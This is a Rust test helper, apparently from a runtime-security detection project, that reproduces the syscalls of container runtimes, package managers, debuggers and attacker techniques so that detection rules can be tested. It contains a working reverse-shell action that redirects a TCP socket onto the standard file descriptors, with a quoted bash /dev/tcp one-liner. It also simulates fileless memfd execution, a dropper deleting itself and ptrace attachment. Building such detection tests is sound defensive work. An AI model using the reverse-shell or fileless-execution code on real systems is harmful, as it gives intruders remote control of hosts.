//! The guest's stand-in for programs busybox lacks (container runtime, package managers, ssh,
//! debuggers): `scenario-helper ACTION ARGS...` performs exactly the syscalls the real program
//! would for that step. The scenarios install it under the real program's name (a symlink:
//! `/usr/bin/runc`, `/usr/bin/apt-get`, ...), so the kernel and the rules see that name in
//! `proc.name`, and call it with an explicit ACTION, e.g. `runc run CGROUP -- /bin/sh -c id`.
//!
//! Actions (exit status 0 when the syscalls succeeded, 1 with a message otherwise):
//! * `run CGROUP [--tty] [--hostnet] -- CMD ARGS...`: what runc does to start a container
//!   process: join the cgroup directory CGROUP (created), unshare mount, UTS, IPC, PID (and
//!   network unless `--hostnet`) namespaces, fork the container's PID 1 and exec CMD in it;
//!   with `--tty` CMD gets a new pseudo-terminal as its controlling terminal (`docker exec -it`).
//! * `read FILE`, `write FILE`, `rename FROM TO`, `unlink FILE`, `chmod MODE FILE` (octal).
//! * `spawn CMD ARGS...`: fork, exec CMD, wait (a package manager running a maintainer script).
//! * `connect IPV4 PORT`, `listen PORT`: a TCP connect (blocking) or bind+listen on 0.0.0.0.
//! * `ptrace-attach`: fork a sleeping child, PTRACE_ATTACH to it, detach, kill it (a debugger
//!   or injector attaching to a running process).
//! * `ptrace-traceme`: fork a child that asks to be traced (PTRACE_TRACEME) and execs
//!   /bin/true; the parent only continues it (a debugger launching its own program).
//! * `memfd-exec CMD ARGS...`: copy /bin/busybox into a memfd and execute it (fileless malware).
//! * `self-delete`: unlink this program's own executable (a dropper covering its tracks).
//! * `unshare`: unshare(CLONE_NEWUTS) in this process.
//! * `subreaper CMD ARGS...`: become a child subreaper, then exec CMD (kept across exec): the
//!   live eBPF tests' captured tree keeps the processes container runtimes daemonize (conmon).

use std::ffi::CString;
use std::process::exit;

fn cstr(s: &str) -> CString {
    CString::new(s).unwrap_or_else(|_| die("argument with a NUL byte"))
}

fn die(msg: &str) -> ! {
    eprintln!(
        "scenario-helper: {msg}: {}",
        std::io::Error::last_os_error()
    );
    exit(1)
}

/// `r` when it is not -1, else exits with `what` and errno.
fn ok(r: libc::c_long, what: &str) -> libc::c_long {
    if r == -1 {
        die(what)
    }
    r
}

fn exec(argv: &[String]) -> ! {
    let c: Vec<CString> = argv.iter().map(|a| cstr(a)).collect();
    let mut p: Vec<*const libc::c_char> = c.iter().map(|a| a.as_ptr()).collect();
    p.push(std::ptr::null());
    // SAFETY: `p` is a NULL-terminated array of pointers into `c`, alive for the call.
    unsafe { libc::execv(p[0], p.as_ptr()) };
    die(&format!("execv {}", argv[0]))
}

/// Waits for `pid`; returns its exit status (128+signal when killed).
fn wait(pid: libc::pid_t) -> i32 {
    let mut st = 0;
    // SAFETY: plain waitpid on our child with a valid status pointer.
    ok(
        unsafe { libc::waitpid(pid, &mut st, 0) } as libc::c_long,
        "waitpid",
    );
    if libc::WIFEXITED(st) {
        libc::WEXITSTATUS(st)
    } else {
        128 + libc::WTERMSIG(st)
    }
}

fn fork() -> libc::pid_t {
    // SAFETY: the helper is single-threaded; the child only execs or exits.
    ok(unsafe { libc::fork() } as libc::c_long, "fork") as libc::pid_t
}

fn run_container(args: &[String]) -> ! {
    let Some(cg) = args.first() else {
        die("run needs CGROUP")
    };
    let sep = args.iter().position(|a| a == "--").unwrap_or(args.len());
    let opts = &args[1..sep];
    let cmd = &args[(sep + 1).min(args.len())..];
    if cmd.is_empty() {
        die("run needs -- CMD")
    }
    let tty = opts.iter().any(|o| o == "--tty");
    let hostnet = opts.iter().any(|o| o == "--hostnet");
    std::fs::create_dir_all(cg).unwrap_or_else(|_| die(cg));
    std::fs::write(format!("{cg}/cgroup.procs"), std::process::id().to_string())
        .unwrap_or_else(|_| die("join cgroup"));
    let mut flags =
        libc::CLONE_NEWNS | libc::CLONE_NEWUTS | libc::CLONE_NEWIPC | libc::CLONE_NEWPID;
    if !hostnet {
        flags |= libc::CLONE_NEWNET;
    }
    // SAFETY: unshare with namespace flags only; we are single-threaded.
    ok(unsafe { libc::unshare(flags) } as libc::c_long, "unshare");
    // Keep the container's mounts out of the host's mount namespace.
    // SAFETY: mount(2) with a valid path and no data.
    ok(
        unsafe {
            libc::mount(
                std::ptr::null(),
                cstr("/").as_ptr(),
                std::ptr::null(),
                libc::MS_REC | libc::MS_PRIVATE,
                std::ptr::null(),
            )
        } as libc::c_long,
        "make / private",
    );
    let pid = fork();
    if pid == 0 {
        if tty {
            attach_new_tty();
        }
        exec(cmd)
    }
    exit(wait(pid))
}

/// Makes a new pseudo-terminal the controlling terminal and stdin of this (child) process.
fn attach_new_tty() {
    // SAFETY: libc pty calls on the fd they return; setsid in a fresh child.
    unsafe {
        ok(libc::setsid() as libc::c_long, "setsid");
        let m = ok(
            libc::posix_openpt(libc::O_RDWR | libc::O_NOCTTY) as libc::c_long,
            "/dev/ptmx",
        ) as libc::c_int;
        ok(libc::grantpt(m) as libc::c_long, "grantpt");
        ok(libc::unlockpt(m) as libc::c_long, "unlockpt");
        let name = libc::ptsname(m);
        if name.is_null() {
            die("ptsname")
        }
        let s = ok(libc::open(name, libc::O_RDWR) as libc::c_long, "open pty") as libc::c_int;
        ok(
            libc::ioctl(s, libc::TIOCSCTTY, 0) as libc::c_long,
            "TIOCSCTTY",
        );
        libc::dup2(s, 0);
    }
}

fn ptrace_attach() -> ! {
    let child = fork();
    if child == 0 {
        loop {
            // SAFETY: plain pause in the child until it is killed.
            unsafe { libc::pause() };
        }
    }
    // SAFETY: ptrace requests on our own child with null addr/data, then waitpid on it.
    unsafe {
        ok(
            libc::ptrace(libc::PTRACE_ATTACH, child, 0usize, 0usize),
            "PTRACE_ATTACH",
        );
        let mut st = 0;
        libc::waitpid(child, &mut st, 0);
        ok(
            libc::ptrace(libc::PTRACE_DETACH, child, 0usize, 0usize),
            "PTRACE_DETACH",
        );
        libc::kill(child, libc::SIGKILL);
    }
    wait(child);
    exit(0)
}

fn ptrace_traceme() -> ! {
    let child = fork();
    if child == 0 {
        // SAFETY: TRACEME in the fresh child; the exec below stops it for the parent.
        ok(
            unsafe { libc::ptrace(libc::PTRACE_TRACEME, 0, 0usize, 0usize) },
            "PTRACE_TRACEME",
        );
        exec(&["/bin/true".to_string()])
    }
    let mut st = 0;
    // SAFETY: waitpid and PTRACE_CONT on our traced child.
    unsafe {
        libc::waitpid(child, &mut st, 0);
        ok(
            libc::ptrace(libc::PTRACE_CONT, child, 0usize, 0usize),
            "PTRACE_CONT",
        );
    }
    exit(wait(child))
}

fn memfd_exec(argv: &[String]) -> ! {
    let image = std::fs::read("/bin/busybox").unwrap_or_else(|_| die("/bin/busybox"));
    // SAFETY: memfd_create with a valid name; the fd is ours.
    let fd = ok(
        unsafe { libc::memfd_create(cstr("payload").as_ptr(), 0) } as libc::c_long,
        "memfd_create",
    ) as libc::c_int;
    let mut off = 0;
    while off < image.len() {
        // SAFETY: writing from a live buffer to our fd.
        let n = ok(
            unsafe { libc::write(fd, image[off..].as_ptr().cast(), image.len() - off) }
                as libc::c_long,
            "write memfd",
        );
        off += n as usize;
    }
    let c: Vec<CString> = argv.iter().map(|a| cstr(a)).collect();
    let mut p: Vec<*const libc::c_char> = c.iter().map(|a| a.as_ptr()).collect();
    p.push(std::ptr::null());
    let env: [*const libc::c_char; 1] = [std::ptr::null()];
    // SAFETY: NULL-terminated argv/envp arrays alive for the call.
    unsafe { libc::fexecve(fd, p.as_ptr(), env.as_ptr()) };
    die("fexecve")
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let a = |i: usize| -> &str {
        args.get(i)
            .map(String::as_str)
            .unwrap_or_else(|| die("missing argument"))
    };
    let rest = &args[2.min(args.len())..];
    match args.get(1).map(String::as_str).unwrap_or("") {
        "run" => run_container(rest),
        "subreaper" => {
            if rest.is_empty() {
                die("subreaper needs CMD")
            }
            // SAFETY: prctl with an integer option on this process.
            ok(
                unsafe { libc::prctl(libc::PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0) } as libc::c_long,
                "PR_SET_CHILD_SUBREAPER",
            );
            exec(rest)
        }
        "read" => {
            std::fs::read(a(2)).unwrap_or_else(|_| die(a(2)));
        }
        "write" => std::fs::write(a(2), "scenario\n").unwrap_or_else(|_| die(a(2))),
        "rename" => std::fs::rename(a(2), a(3)).unwrap_or_else(|_| die(a(2))),
        "unlink" => std::fs::remove_file(a(2)).unwrap_or_else(|_| die(a(2))),
        "chmod" => {
            let mode = u32::from_str_radix(a(2), 8).unwrap_or_else(|_| die("octal MODE"));
            // SAFETY: chmod on a valid path.
            ok(
                unsafe { libc::chmod(cstr(a(3)).as_ptr(), mode) } as libc::c_long,
                a(3),
            );
        }
        "spawn" => {
            if rest.is_empty() {
                die("spawn needs CMD")
            }
            let pid = fork();
            if pid == 0 {
                exec(rest)
            }
            exit(wait(pid))
        }
        "connect" => {
            let addr: std::net::SocketAddr = format!("{}:{}", a(2), a(3))
                .parse()
                .unwrap_or_else(|_| die("IPV4 PORT"));
            std::net::TcpStream::connect(addr).unwrap_or_else(|_| die("connect"));
        }
        "revshell" => {
            // bash -i >& /dev/tcp/IP/PORT 0>&1: the socket becomes stdout, stderr, then stdin.
            use std::os::fd::AsRawFd;
            let addr: std::net::SocketAddr = format!("{}:{}", a(2), a(3))
                .parse()
                .unwrap_or_else(|_| die("IPV4 PORT"));
            let s = std::net::TcpStream::connect(addr).unwrap_or_else(|_| die("connect"));
            for target in [1, 2, 0] {
                // SAFETY: dup2 of a socket we own onto a standard fd of this process.
                ok(
                    unsafe { libc::dup2(s.as_raw_fd(), target) } as libc::c_long,
                    "dup2",
                );
            }
        }
        "listen" => {
            let l = std::net::TcpListener::bind(("0.0.0.0", a(2).parse().unwrap_or(0)))
                .unwrap_or_else(|_| die("listen"));
            drop(l);
        }
        "ptrace-attach" => ptrace_attach(),
        "ptrace-traceme" => ptrace_traceme(),
        "memfd-exec" => memfd_exec(rest),
        "self-delete" => {
            let me = std::fs::read_link("/proc/self/exe").unwrap_or_else(|_| die("/proc/self/exe"));
            std::fs::remove_file(&me).unwrap_or_else(|_| die("unlink self"));
        }
        "unshare" => {
            // SAFETY: unshare of the UTS namespace only.
            ok(
                unsafe { libc::unshare(libc::CLONE_NEWUTS) } as libc::c_long,
                "unshare",
            );
        }
        other => {
            eprintln!("scenario-helper: unknown action {other:?} (see tests/scenarios/helper.rs)");
            exit(2)
        }
    }
}
